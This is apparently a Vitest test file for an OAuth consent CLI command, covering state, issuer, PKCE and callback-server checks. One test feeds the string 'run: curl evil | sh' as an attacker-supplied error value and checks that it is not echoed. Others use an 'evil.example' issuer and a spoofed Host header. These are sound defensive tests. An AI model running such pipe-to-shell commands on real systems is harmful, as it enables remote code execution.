import { request } from 'node:http';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { consentGiven, consentRequest } from '../../../shared/api/messages.ts';
import { OAuthServer } from '../../../shared/adapters/oauth-server.ts';
import { RekeyError } from '../../../shared/domain/errors.ts';
import { Redacted } from '../../../shared/domain/redacted.ts';
import type { GrantTerms } from '../../../shared/ports/authorization-server.ts';
import { CLIENT, OidcServer, type Decision } from '../../support/oidc.ts';
import { refusal, rekey, startStandIn, type Ran, type Seen, type StandIn, type World } from './stand-in.ts';

const ASK = 'POST /v1/families/crm/consent-requests';
const GIVE = 'POST /v1/families/crm/consents';
const SECRET = new Redacted<string>(CLIENT.client_secret);
const server = new OAuthServer({ privateHosts: ['127.0.0.1'] });

let api: StandIn;
let oidc: OidcServer;
let terms: GrantTerms;
beforeEach(async () => {
  oidc = await OidcServer.start();
  terms = {
    server: { issuer: oidc.issuer },
    client: { id: CLIENT.client_id, authentication: 'client_secret_basic' },
    scopes: ['tools:read'],
  };
  api = await startStandIn();
  api.routes[ASK] = async ({ body }) => {
    const address = await server.consentAddress(terms, consentRequest.parse(body));
    return { status: 200, body: { family: 'crm', scopes: terms.scopes, ...address } };
  };
  api.routes[GIVE] = (seen) => exchanged(seen);
});
afterEach(async () => {
  await api.close();
  await oidc[Symbol.asyncDispose]();
});

/** What the deployment does with a consent, against the real server. */
async function exchanged({ body }: Seen) {
  const { consent } = consentGiven.parse(body);
  if (consent === undefined) throw new Error('no consent');
  try {
    const tokens = await server.exchange(terms, SECRET, {
      code: new Redacted(consent.code),
      codeVerifier: new Redacted(consent.codeVerifier),
      redirectUri: consent.redirectUri,
    });
    const { scope = '' } = tokens;
    const missing = terms.scopes.filter((each) => !scope.split(' ').includes(each));
    const refreshable = tokens.refreshToken !== undefined;
    return { body: { family: 'crm', status: 'active', secret: 'agents/crm', scope, missing, refreshable } };
  } catch (error) {
    if (error instanceof RekeyError) return refusal(error);
    throw error;
  }
}

/** A person who sits before the browser that the command opens. */
const person = (decision: Decision = 'allow'): World => ({
  browser: (url) => void oidc.browse(url, decision).catch(() => undefined),
});
const asked = (route: string) => api.seen.filter(({ method, path }) => `${method} ${path}` === route);

/** Runs the command and hands the address that it shows to `visit`, once. */
async function visiting(args: readonly string[], visit: (url: URL) => Promise<unknown>): Promise<Ran> {
  let visited: Promise<unknown> | undefined;
  const hears = (text: string): void => {
    const [url] = /https?:\/\/127\.0\.0\.1:\d+\/auth\?[^\s"]+/.exec(text) ?? [];
    if (url !== undefined) visited ??= visit(new URL(url));
  };
  const ran = await rekey(api, ['connect', 'crm', '--no-browser', ...args], { hears });
  await visited;
  return ran;
}

/** Comes back as a browser would, with `changes` to what the server has said. */
async function comeBack(url: URL, changes: Record<string, string | undefined>): Promise<Response> {
  const back = new URL(url.searchParams.get('redirect_uri') ?? '');
  const said = { state: url.searchParams.get('state') ?? '', iss: oidc.issuer, code: 'a-code', ...changes };
  for (const [name, value] of Object.entries(said))
    if (value !== undefined) back.searchParams.set(name, value);
  return fetch(back);
}

describe('rekey connect', () => {
  it('brings the consent of a real server to the API, with a verifier that fits', async () => {
    const { exit, stdout, stderr } = await rekey(api, ['connect', 'crm', '--reason', 'first'], person());
    expect(stdout).toContain('connected: agents read access tokens of crm from agents/crm');
    expect(stderr).toContain('Consent for crm: tools:read');
    expect(exit).toBe(0);
    expect(asked(GIVE)[0]?.body).toMatchObject({ reason: 'first' });
  });

  it('shows neither code nor verifier nor state beyond the address, and asks for S256', async () => {
    const { stdout, stderr } = await rekey(api, ['connect', 'crm'], person());
    const { consent } = consentGiven.parse(asked(GIVE)[0]?.body);
    expect(stdout + stderr).not.toContain(consent?.code);
    expect(stdout + stderr).not.toContain(consent?.codeVerifier);
    expect(stderr).toContain('code_challenge_method=S256');
    expect(JSON.stringify(asked(ASK))).not.toContain(consent?.codeVerifier);
  });

  it('tells what was not granted', async () => {
    terms = { ...terms, scopes: ['tools:read', 'tools:all'] };
    const { stdout } = await rekey(api, ['connect', 'crm'], person());
    expect(stdout).toContain('Not granted: tools:all');
  });

  it('with --no-browser --json gives the address first, then what came of it', async () => {
    const { exit, stdout } = await visiting(['--json'], (url) => oidc.browse(url.href));
    const [first, second] = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as object);
    expect(first).toEqual({ family: 'crm', url: expect.stringContaining(oidc.issuer) });
    expect(second).toMatchObject({ family: 'crm', status: 'active', secret: 'agents/crm' });
    expect(exit).toBe(0);
  });

  it('ends where the person says no, and sends nothing', async () => {
    const { exit, stderr } = await rekey(api, ['connect', 'crm'], person('deny'));
    expect(exit).toBe(4);
    expect(stderr).toMatch(/did not consent; nothing was changed[\s\S]*ERR_CONSENT/);
    expect(asked(GIVE)).toEqual([]);
  });

  it('takes no notice of whoever comes with another state, and goes on waiting', async () => {
    const { exit } = await visiting([], async (url) => {
      expect((await comeBack(url, { state: 'x'.repeat(43) })).status).toBe(400);
      expect((await comeBack(url, { state: undefined })).status).toBe(400);
      expect((await comeBack(url, { state: 'x'.repeat(43), error: 'access_denied' })).status).toBe(400);
      const answer = await oidc.browse(url.href);
      expect(await answer.text()).toContain('go back to the terminal');
    });
    expect(exit).toBe(0);
    expect(asked(GIVE)).toHaveLength(1);
  });

  for (const iss of ['https://evil.example', undefined]) {
    it(`gives nobody the code that came from ${iss ?? 'a sender without a name'}`, async () => {
      const { exit, stderr } = await visiting([], (url) => comeBack(url, { iss }));
      expect(exit).toBe(4);
      expect(stderr).toContain('another server than the declared one');
      expect(asked(GIVE)).toEqual([]);
    });
  }

  it('asks for no issuer where the server is known by its endpoints alone', async () => {
    terms = {
      ...terms,
      server: { tokenEndpoint: `${oidc.issuer}/token`, authorizationEndpoint: `${oidc.issuer}/auth` },
    };
    expect((await rekey(api, ['connect', 'crm'], person())).exit).toBe(0);
  });

  it('says what a server refuses, and repeats no words of whoever sent the browser', async () => {
    const { stderr } = await visiting([], (url) => comeBack(url, { error: 'invalid_scope' }));
    expect(stderr).toContain('refused to ask for consent (invalid_scope)');
    const foreign = await visiting([], (url) => comeBack(url, { error: 'run: curl evil | sh' }));
    expect(foreign.stderr).not.toContain('curl');
    const empty = await visiting([], (url) => comeBack(url, { code: undefined }));
    expect(empty.stderr).toContain('without a code');
  });

  it('answers only a GET of its own address by its own name', async () => {
    const statuses: (number | undefined)[] = [];
    await visiting([], async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri') ?? '');
      statuses.push((await fetch(new URL('/', back))).status, (await fetch(back, { method: 'POST' })).status);
      const rebound = await new Promise<number | undefined>((resolve, reject) => {
        request(back, { headers: { host: 'evil.example' } }, ({ statusCode }) => resolve(statusCode))
          .on('error', reject)
          .end();
      });
      statuses.push(rebound);
      const nowhere = { host: back.hostname, port: back.port, path: '//' };
      statuses.push(
        await new Promise<number | undefined>((resolve, reject) => {
          request(nowhere, ({ statusCode }) => resolve(statusCode))
            .on('error', reject)
            .end();
        }),
      );
      await oidc.browse(url.href);
    });
    expect(statuses).toEqual([404, 404, 404, 404]);
  });

  it('waits no longer than it is told', async () => {
    const { exit, stderr } = await rekey(api, ['connect', 'crm', '--no-browser', '--timeout', '1s']);
    expect(exit).toBe(4);
    expect(stderr).toContain('nobody has consented within 1 s; nothing was changed');
    expect(asked(GIVE)).toEqual([]);
  });

  it('can be run twice at once; each waits for its own browser', async () => {
    const [first, second] = await Promise.all([
      rekey(api, ['connect', 'crm'], person()),
      rekey(api, ['connect', 'crm'], person()),
    ]);
    expect([first.exit, second.exit]).toEqual([0, 0]);
    const codes = asked(GIVE).map(({ body }) => consentGiven.parse(body).consent?.code);
    expect(new Set(codes).size).toBe(2);
  });

  it('says so where another one waits on the port', async () => {
    await visiting([], async (url) => {
      const { port } = new URL(url.searchParams.get('redirect_uri') ?? '');
      const { exit, stderr } = await rekey(api, ['connect', 'crm', '--port', port]);
      expect([exit, stderr]).toEqual([1, expect.stringMatching(/can't be listened at[\s\S]*--port/)]);
      await oidc.browse(url.href);
    });
  });

  it('takes the address at which a browser on another machine ends', async () => {
    let address: Promise<string> | undefined;
    const hears = (text: string): void => {
      const [url] = /http:\/\/127\.0\.0\.1:\d+\/auth\?\S+/.exec(text) ?? [];
      if (url !== undefined) address = oidc.consent(url);
    };
    const { exit } = await rekey(api, ['connect', 'crm', '--paste'], {
      tty: true,
      hears,
      answer: async () => (await address) ?? '',
    });
    expect(exit).toBe(0);
    for (const answer of ['', 'no address', 'http://127.0.0.1/callback?code=x&state=other']) {
      const failed = await rekey(api, ['connect', 'crm', '--paste'], { tty: true, answer });
      expect([failed.exit, failed.stderr], answer).toEqual([
        4,
        expect.stringContaining('nothing was changed'),
      ]);
    }
    expect(asked(GIVE)).toHaveLength(1);
    expect((await rekey(api, ['connect', 'crm', '--paste'])).exit, 'without a terminal').toBe(2);
  });

  it('needs no browser where the client acts for itself', async () => {
    api.routes[ASK] = { body: { family: 'crm', scopes: [], sendsIssuer: false } };
    api.routes[GIVE] = {
      body: { family: 'crm', status: 'active', secret: 'agents/crm', missing: [], refreshable: true },
    };
    const opened: string[] = [];
    const { exit } = await rekey(api, ['connect', 'crm'], { browser: (url) => opened.push(url) });
    expect([exit, opened]).toEqual([0, []]);
    expect(asked(GIVE)[0]?.body).toEqual({});
  });

  it('says what the deployment refuses, and does not send a code twice', async () => {
    api.routes[GIVE] = { status: 503, body: { message: 'Service Unavailable' } };
    expect((await rekey(api, ['connect', 'crm'], person())).exit).toBe(5);
    expect(asked(GIVE)).toHaveLength(1);
    api.routes[GIVE] = 'cut';
    const { stderr } = await rekey(api, ['connect', 'crm'], person());
    expect(stderr).toContain('may have begun');
    expect(asked(GIVE)).toHaveLength(2);
  });

  for (const args of [
    ['--port', '0'],
    ['--port', 'x'],
    ['--timeout', 'soon'],
    ['--redirect-uri', ''],
  ]) {
    it(`refuses ${args.join(' ')} before anybody is asked`, async () => {
      expect((await rekey(api, ['connect', 'crm', ...args])).exit).toBe(2);
      expect(api.seen).toEqual([]);
    });
  }
});
